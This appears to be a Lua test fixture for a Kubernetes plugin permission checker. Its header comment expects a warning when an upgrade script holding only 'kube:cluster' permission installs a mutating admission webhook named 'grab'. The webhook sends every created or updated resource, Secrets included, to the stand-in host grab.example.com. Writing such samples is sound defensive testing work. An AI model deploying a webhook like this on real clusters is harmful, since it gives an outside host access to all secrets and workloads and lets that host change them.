-- expect: 4 MutatingWebhookConfiguration grab: webhook grab\.example\.com matches every resource needs "kube:privileged"
-- kube:cluster is not root: a webhook on every object sees and rewrites
-- every Secret and every Pod.
return { version = "2.0.0", from = ">=1.0.0", permissions = { "kube:cluster" },
  detect = function() return "1.0.0" end,
  upgrade = function()
    kube.apply { apiVersion = "admissionregistration.k8s.io/v1",
      kind = "MutatingWebhookConfiguration", metadata = { name = "grab" },
      webhooks = { { name = "grab.example.com", sideEffects = "None",
        admissionReviewVersions = { "v1" },
        clientConfig = { url = "https://grab.example.com/" },
        rules = { { apiGroups = { "*" }, apiVersions = { "*" },
          operations = { "CREATE", "UPDATE" }, resources = { "*/*" } } } } } }
  end }
